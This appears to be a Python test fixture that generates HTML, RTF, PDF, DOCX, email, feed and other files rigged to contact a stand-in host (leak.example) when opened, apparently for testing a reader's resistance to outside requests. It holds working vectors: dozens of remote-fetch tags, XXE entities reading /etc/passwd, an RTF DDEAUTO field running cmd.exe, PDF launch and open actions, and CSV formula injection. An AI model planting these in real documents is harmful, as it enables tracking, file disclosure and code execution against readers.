# ruff: noqa: E501 (what is written into a document is as wide as it is)
"""Documents of every format that ask for something from elsewhere when they are read or shown, as anybody can send them.

python -m tests.attacks.asking FOLDER     writes them there
"""

import io
import sys
import zipfile
from collections.abc import Callable
from email.message import EmailMessage
from pathlib import Path

from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from tests.formats import FILES, OFFICE, WORDS, samples

HOST = "leak.example"
"""Nobody's (RFC 2606): whatever looks it up was made to by a document."""
ADDRESS = "198.51.100.7"
"""Nobody's either (RFC 5737)."""
BASE = f"http://{HOST}"
PAGE = f"""<!doctype html><html manifest="{BASE}/1"><head><title>The crane</title>
<base href="{BASE}/base/"><link rel="dns-prefetch" href="//dns.{HOST}"><link rel="preconnect" href="{BASE}">
<link rel="prefetch" href="{BASE}/2"><link rel="prerender" href="{BASE}/3"><link rel="preload" as="image" href="{BASE}/4">
<link rel="modulepreload" href="{BASE}/5"><link rel="icon" href="{BASE}/6"><link rel="stylesheet" href="{BASE}/7">
<link rel="manifest" href="{BASE}/8"><link rel="canonical" href="{BASE}/crane">
<meta http-equiv="refresh" content="0;url={BASE}/9"><meta http-equiv="Link" content="&lt;{BASE}/10&gt;; rel=preload">
<meta property="og:image" content="{BASE}/11"><meta property="article:published_time" content="2014-03-06T08:00:00Z">
<style>@import url({BASE}/12); @font-face {{ font-family: x; src: url({BASE}/13) }}
body {{ background: url({BASE}/14); font-family: x }} p::before {{ content: url({BASE}/15) }}</style>
<script src="{BASE}/16"></script><script type="module">import "{BASE}/17"</script>
<script>fetch("{BASE}/18"); new Image().src = "{BASE}/19"; navigator.sendBeacon("{BASE}/20"); new WebSocket("ws://{HOST}/21");
new RTCPeerConnection({{iceServers: [{{urls: "stun:{ADDRESS}:3478"}}]}}).createDataChannel("x");
</script><script type="speculationrules">{{"prerender": [{{"source": "list", "urls": ["{BASE}/22"]}}]}}</script></head>
<body background="{BASE}/23" onload="location='{BASE}/24'"><article><h1>The crane</h1>
{"".join(f"<p>{paragraph}</p>" for paragraph in WORDS.strip().split(chr(10) * 2))}
<p><img src="{BASE}/25" srcset="{BASE}/26 2x" lowsrc="{BASE}/27"><img src="//{ADDRESS}/28" loading="eager">
<picture><source srcset="{BASE}/29"><img src="{BASE}/30"></picture><a href="{BASE}/31" ping="{BASE}/32">more</a></p>
<iframe src="{BASE}/33"></iframe><iframe srcdoc="&lt;img src={BASE}/34&gt;"></iframe><embed src="{BASE}/35">
<object data="{BASE}/36"><param name="movie" value="{BASE}/37">words of an object</object><applet code="{BASE}/38"></applet>
<video src="{BASE}/39" poster="{BASE}/40" autoplay></video><audio src="{BASE}/41" autoplay></audio>
<svg><image href="{BASE}/42"/><use href="{BASE}/43#a"/><feImage href="{BASE}/44"/><script href="{BASE}/45"/></svg>
<math><mi xlink:href="{BASE}/46">x</mi></math><form action="{BASE}/47"><input type="image" src="{BASE}/48" autofocus
onfocus="this.form.submit()"><button formaction="{BASE}/49">b</button></form>
<p style="background-image: url({BASE}/50)">The harbour kept its books, two clerks said.</p>
<frameset><frame src="{BASE}/51"></frameset><noscript><img src="{BASE}/52"></noscript>
<template><img src="{BASE}/53"></template><xml src="{BASE}/54"></xml><bgsound src="{BASE}/55"><track src="{BASE}/56">
</article></body></html>"""
MARKDOWN = f"""# The crane

![seen]({BASE}/1) ![seen][r] <img src="{BASE}/2"> [log]({BASE}/3)

{WORDS}

<iframe src="{BASE}/4"></iframe>

[r]: {BASE}/5
"""
RTF = (
    r"{\rtf1\ansi{\*\template " + BASE + r"/1.dot}{\field{\*\fldinst INCLUDEPICTURE \"" + BASE + r"/2.png\" \\d}"
    r"{\fldrslt seen}}{\field{\*\fldinst INCLUDETEXT \"" + BASE + r"/3\"}{\fldrslt }}"
    r"{\field{\*\fldinst DDEAUTO c:\\\\cmd.exe \"/c calc\"}{\fldrslt }}"
    r"{\object\objautlink\objupdate{\*\objclass Word.Document}{\*\objdata 0105000002000000}{\result linked}}"
    r"{\field{\*\fldinst HYPERLINK \"" + BASE + r"/4\"}{\fldrslt the log}}\par "
    + WORDS.strip().replace("\n\n", r"\par ").encode("ascii", "replace").decode().replace("?", "'") + r"\par}"
)  # fmt: skip
DECLARED = (
    '<?xml version="1.0"?><!DOCTYPE {0} PUBLIC "-//x//y" "' + BASE + '/1.dtd" '
    '[<!ENTITY seen SYSTEM "' + BASE + '/2"><!ENTITY disk SYSTEM "file:///etc/passwd">'
    '<!ENTITY % more SYSTEM "' + BASE + '/3"> %more;]>'
)
FEED = DECLARED.format("rss") + (
    f'<?xml-stylesheet href="{BASE}/4" type="text/xsl"?><rss version="2.0"><channel><title>Gazette</title>'
    f"<link>{BASE}</link><image><url>{BASE}/5</url></image><item><title>The crane &seen; &disk;</title>"
    f'<link>{BASE}/6</link><enclosure url="{BASE}/7" type="audio/mpeg" length="1"/>'
    f"<pubDate>Thu, 06 Mar 2014 09:12:00 +0100</pubDate><description>&lt;p&gt;{WORDS}&lt;/p&gt;"
    f"&lt;img src={BASE}/8&gt;</description></item></channel></rss>"
)
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def files() -> dict[str, bytes]:
    """The bytes of each by its name."""
    return {
        "page.html": PAGE.encode(),
        "page.md": MARKDOWN.encode(),
        "page.rtf": RTF.encode("ascii"),
        "feed.rss": FEED.encode(),
        "report.docx": _docx(),
        "report.odt": _odt(),
        "report.fodt": _fodt(),
        "report.pdf": _pdf(),
        "page.mhtml": _mhtml(),
        "message.eml": _message().as_bytes(),
        "crawl.warc": _crawl(),
        "archive.zip": _zip({"inside.html": PAGE.replace("crane", "winch").encode(), "a.md": (MARKDOWN + "\nx\n").encode()}),
        "drawing.svg": f'{DECLARED.format("svg")}<svg xmlns="http://www.w3.org/2000/svg"><image href="{BASE}/4"/></svg>'.encode(),
        "table.csv": f'date,title,url,text\n2014-03-06,"=HYPERLINK(""{BASE}/1"")",{BASE}/2,"{WORDS}"\n'.encode(),
        "list.json": f'[{{"id":"a","type":"webpage","title":"x","URL":"{BASE}/1","abstract":"The crane fell."}}]'.encode(),
        "list.ris": f"TY  - NEWS\nTI  - x\nUR  - {BASE}/1\nL1  - {BASE}/2.pdf\nL1  - file:///etc/passwd\nAB  - It fell.\nER  -\n".encode(),
    }  # fmt: skip


def _docx() -> bytes:
    """Pictures, frames, a template and a piece of text that lie elsewhere."""
    outside = "".join(
        f'<Relationship Id="x{number}" Type="{_RELATION}/{kind}" Target="{BASE}/{number}" TargetMode="External"/>'
        for number, kind in enumerate(("image", "frame", "subDocument", "oleObject", "hyperlink", "aFChunk"))
    )
    settings = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="t" Type="{_RELATION}/attachedTemplate" Target="{BASE}/t" TargetMode="External"/></Relationships>'
    )
    field = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDEPICTURE "{BASE}/f" \\d</w:instrText>'
        '<w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )

    def changed(name: str, data: bytes) -> bytes:
        if name == "word/_rels/document.xml.rels":
            return data.replace(b"</Relationships>", outside.encode() + b"</Relationships>")
        if name == "word/document.xml":
            return data.replace(b"<w:body>", b"<w:body>" + field.encode(), 1)
        return data

    return _again((OFFICE / "report.docx").read_bytes(), changed, {"word/_rels/settings.xml.rels": settings.encode()})


def _odt() -> bytes:
    def changed(name: str, data: bytes) -> bytes:
        return _with_outside(data) if name == "content.xml" else data

    return _again((OFFICE / "report.odt").read_bytes(), changed, {})


def _fodt() -> bytes:
    return _with_outside((OFFICE / "report.fodt").read_bytes())


def _with_outside(data: bytes) -> bytes:
    frame = (
        '<text:p xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<draw:frame><draw:image xlink:href="{BASE}/1" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame>'
        f'<draw:frame><draw:object xlink:href="{BASE}/2" xlink:actuate="onLoad"/></draw:frame></text:p></office:text>'
    )
    return data.replace(b"</office:text>", frame.encode(), 1)


def _pdf() -> bytes:
    """Opens an address, starts a program and asks another file for its form, all when it is opened."""
    writer = PdfWriter(clone_from=PdfReader(OFFICE / "report.pdf"))
    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject(f"//{HOST}/x")}
    )
    remote = DictionaryObject({
        NameObject("/S"): NameObject("/GoToR"), NameObject("/F"): TextStringObject(f"//{HOST}/x.pdf"),
        NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]), NameObject("/Next"): launch,
    })  # fmt: skip
    opened = DictionaryObject({
        NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(f"{BASE}/1"), NameObject("/Next"): remote
    })  # fmt: skip
    writer.root_object[NameObject("/OpenAction")] = opened
    writer.root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): opened})
    form = f'{DECLARED.format("x")}<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><submit target="{BASE}/2"/></template></xdp:xdp>'
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/XFA"): TextStringObject(form), NameObject("/Fields"): ArrayObject()}
    )
    writer.add_uri(0, f"{BASE}/3", (10, 10, 200, 200))
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def _mhtml() -> bytes:
    """A saved page of which parts were left where they are."""
    data = (FILES / "crane.mhtml").read_bytes()
    return data.replace(b"<body", f'<img src=3D"{BASE}/1"><img src=3D"cid:gone@{HOST}"><body'.encode(), 1)


def _message() -> EmailMessage:
    made = EmailMessage()
    made["From"] = f"Nadia Ferrand <nadia@{HOST}>"
    made["To"] = "Tomas Brandt <tb@paper.example>"
    made["Date"] = "Thu, 06 Mar 2014 09:12:00 +0100"
    made["Subject"] = "The crane"
    made["Disposition-Notification-To"] = f"seen@{HOST}"
    made["List-Unsubscribe"] = f"<{BASE}/1>"
    made.set_content(WORDS)
    made.add_alternative(PAGE, subtype="html")
    made.add_attachment(
        b"x", maintype="message", subtype="external-body", params={"access-type": "URL", "URL": f"{BASE}/2"}
    )
    return made


def _crawl() -> bytes:
    return samples()["crawl.warc"].replace(
        b"https://gazette.example/crane", f"{BASE}/cranes-of-sete".encode()[:29].ljust(29, b"x")
    )


def _zip(members: dict[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members.items():
            made.writestr(name, data)
    return held.getvalue()


def _again(packed: bytes, changed: Callable[[str, bytes], bytes], more: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(packed)) as there:
        return _zip({**{name: changed(name, there.read(name)) for name in there.namelist()}, **more})


if __name__ == "__main__":
    for name, data in files().items():
        (Path(sys.argv[1]) / name).write_bytes(data)
